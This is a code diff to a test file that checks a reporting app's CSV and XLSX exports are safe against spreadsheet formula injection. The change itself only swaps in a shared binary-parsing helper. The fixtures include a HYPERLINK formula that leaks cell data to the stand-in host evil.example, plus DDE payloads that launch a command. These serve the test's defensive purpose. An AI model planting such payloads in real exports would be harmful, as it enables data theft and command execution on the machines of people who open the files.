@@ -4,19 +4,13 @@
 // values only: opened with a spreadsheet parser, no cell is a formula.
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
-import { startTestApp, type TestApp } from '../helpers/app.js';
+import { bytes, startTestApp, type TestApp } from '../helpers/app.js';
 import { advance, daysAgo, makeDossier, today } from '../helpers/dossiers.js';
 import { actor, type Actor } from '../helpers/factories.js';
 
 const PROJECT = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
 const COMMUNE = "+cmd|' /C calc'!A0";
 const PROMOTER_LIKE = ["-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1'];
-
-const binary = (res: NodeJS.ReadableStream, cb: (e: Error | null, b: Buffer) => void) => {
-  const chunks: Buffer[] = [];
-  res.on('data', (c: Buffer) => chunks.push(c));
-  res.on('end', () => cb(null, Buffer.concat(chunks)));
-};
 
 describe('exports safe to open: CSV neutralised, XLSX without formulas', () => {
   let t: TestApp;
@@ -41,13 +35,7 @@ describe('exports safe to open: CSV neutralised, XLSX without formulas', () => {
     return parse<Record<string, string>>(res.text, { columns: true });
   };
   const xlsxOf = async (runId: string, who: { header: string; value: string }) => {
-    const res = await t
-      .http()
-      .get(`/api/v1/reports/runs/${runId}/download?format=xlsx`)
-      .set(who.header, who.value)
-      .buffer(true)
-      .parse(binary as never)
-      .expect(200);
+    const res = await t.http().get(`/api/v1/reports/runs/${runId}/download?format=xlsx`).set(who.header, who.value).buffer(true).parse(bytes).expect(200);
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(res.body as never);
     return { sheet: workbook.worksheets[0] };
